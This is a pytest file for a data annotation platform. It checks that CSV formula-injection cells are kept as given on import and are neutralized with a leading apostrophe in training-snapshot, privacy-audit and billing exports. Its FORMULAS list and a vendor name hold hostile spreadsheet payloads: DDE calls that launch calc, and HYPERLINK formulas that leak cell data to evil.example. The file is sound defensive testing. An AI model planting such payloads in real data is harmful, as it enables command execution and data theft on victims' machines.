"""CSV formula injection: imported data keeps its hostile cells verbatim, and every CSV Quorum writes
(training snapshots, the privacy audit log, billing statements) neutralizes them.

A cell a spreadsheet would run starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
(OWASP); Quorum prefixes such a cell with ``'`` so that it is shown as text. Plain numbers
(``-1.5``) are data, not formulas.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path
from typing import Any

from django.utils import timezone

from annotation.importing.pipeline import run_import
from annotation.models import ImportStatus, Item
from annotation.services import import_create
from quality.billing import statement_create, statement_csv
from tests.annotation.queue_support import claim, submit
from tests.conftest import World, make_project
from tests.training_export.conftest import answer
from training_export.build import run_build, snapshot_path
from training_export.services import snapshot_create
from workforce.access import actor_for
from workforce.models import Role
from workforce.services import user_create

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
_START = ("=", "+", "-", "@", "\t", "\r")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _formula_cells(table: list[list[str]]) -> list[str]:
    return [cell for row in table for cell in row if cell.startswith(_START) and not _is_number(cell)]


def _table(data: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data, newline="")))


def _import_csv(world: World, project: Any, tmp_path: Path) -> None:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["external_id", "text", "metadata.note"])
    for i, formula in enumerate(FORMULAS):
        writer.writerow([f"{formula}#{i}", f"{formula} please", formula])
    path = tmp_path / "formulas.csv"
    path.write_text(out.getvalue(), newline="")
    ml = actor_for(world.users["ml"])
    job = run_import(import_create(actor=ml, project=project, filename=path.name, path=path, enqueue=False).pk)
    assert job.status == ImportStatus.SUCCEEDED, job.errors


def test_imported_formulas_are_kept_verbatim_and_exported_neutralized(world, tmp_path, settings):
    settings.QUORUM = {**settings.QUORUM, "SNAPSHOT_DIR": tmp_path / "snapshots"}
    project = make_project(world, vendors=[world.offshore])
    _import_csv(world, project, tmp_path)
    items = list(Item.objects.filter(project=project).order_by("pk"))
    # Import is not the place to alter data: the cells are stored as given.
    assert [i.external_id for i in items] == [f"{f}#{n}" for n, f in enumerate(FORMULAS)]
    assert [i.metadata["note"] for i in items] == FORMULAS
    for item in items:
        answer(item, world.users["off_annotator"], ["billing"])
        answer(item, world.users["off_annotator2"], ["billing"])

    snapshot = snapshot_create(actor=actor_for(world.users["ml"]), project=project, fmt="csv", enqueue=False)
    snapshot = run_build(snapshot.pk)
    table = _table(snapshot_path(snapshot).read_bytes().decode("utf-8"))  # no newline translation
    assert len(table) == 1 + len(FORMULAS)
    assert _formula_cells(table) == []
    ids = {row[0] for row in table[1:]}
    assert ids == {f"'{f}#{n}" for n, f in enumerate(FORMULAS)}  # neutralized, not dropped
    # Text is exported as the vendor-safe view: neutralized, or redacted ("@SUM" reads as a handle).
    assert all(row[2].startswith(("'", "<")) and row[2].endswith(" please") for row in table[1:]), table


def test_audit_log_export_neutralizes_formulas(world):
    reviewer = user_create(organization=world.org, username="@evil", password="x" * 12, role=Role.REVIEWER)
    project = make_project(world, vendors=[world.offshore])
    item = Item.objects.create(project=project, external_id="a", text_redacted="x", content_hash="h")
    from tests.conftest import content

    Item.objects.filter(pk=item.pk).update(**content(project, "a", "raw text"))
    for formula in FORMULAS:
        client = world.client("admin")
        client.force_authenticate(reviewer)
        response = client.post(f"/api/v1/items/{item.pk}/reveal", {"justification": formula + " (a reason)"})
        assert response.status_code == 200, response.content

    response = world.client("admin").get("/api/v1/privacy/audit/export.csv")
    assert response.status_code == 200
    table = _table(b"".join(response.streaming_content).decode("utf-8"))
    reasons = [row[4] for row in table[1:] if row[2] == "'@evil"]
    assert sorted(reasons) == sorted("'" + f.strip() + " (a reason)" for f in FORMULAS)  # the API trims
    assert _formula_cells(table) == []


def test_billing_statement_csv_neutralizes_vendor_and_project_names(world, django_capture_on_commit_callbacks):
    world.offshore.name = '=HYPERLINK("http://evil.example","pay here")'
    world.offshore.save(update_fields=["name"])
    projects = [make_project(world, name=name, vendors=[world.offshore]) for name in ("@SUM(1+1)", "-2+3")]
    from tests.annotation.queue_support import make_items

    worker = world.users["off_annotator"]
    with django_capture_on_commit_callbacks(execute=True):
        for project in projects:
            make_items(project, 2)
            lease = claim(worker, project)
            assert lease is not None
            submit(worker, lease, "billing", time_spent_ms=1000)
    today = timezone.localdate()
    statement = statement_create(
        actor=actor_for(world.users["admin"]), vendor_id=world.offshore.pk,
        period_start=today - timedelta(days=1), period_end=today,
    )
    table = _table(statement_csv(statement))
    assert len(table) == 1 + len(projects) + 1  # header, a line per project, the total
    assert _formula_cells(table) == []
    assert {row[0] for row in table[1:]} == {"'" + world.offshore.name}
    assert {row[3] for row in table[1:-1]} == {"'@SUM(1+1)", "'-2+3"}
    response = world.client("admin").get(f"/api/v1/quality/statements/{statement.pk}.csv")
    assert response.status_code == 200 and _formula_cells(_table(response.content.decode())) == []
